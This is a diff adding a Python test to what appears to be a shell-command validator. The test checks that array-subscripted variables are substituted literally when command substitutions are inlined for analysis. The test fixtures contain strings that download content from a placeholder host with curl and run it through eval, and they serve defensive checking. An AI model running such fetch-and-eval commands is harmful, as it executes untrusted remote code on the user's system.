@@ -70,3 +70,10 @@ def test_the_validator_hands_on_the_reading_with_the_fetch_put_in() -> None:
     assert verdict.nested == (MayRun('V=$(curl -s https://x.test/a); eval "$(curl -s '
                                      'https://x.test/a)"'),)
     assert validator.check_line(parse('V=$(date); eval "$V"'), CTX).nested == ()
+
+
+def test_a_subscripted_name_is_spelled_literally() -> None:
+    """``a[0]`` is one element of an array, not a pattern: ``$a0`` is another variable."""
+    assert put_in(parse('a[0]=$(curl -s https://x.test/a); eval "$a0"')) is None
+    assert put_in(parse('a[0]=$(curl -s https://x.test/a); eval "${a[0]}"')) == (
+        'a[0]=$(curl -s https://x.test/a); eval "$(curl -s https://x.test/a)"')
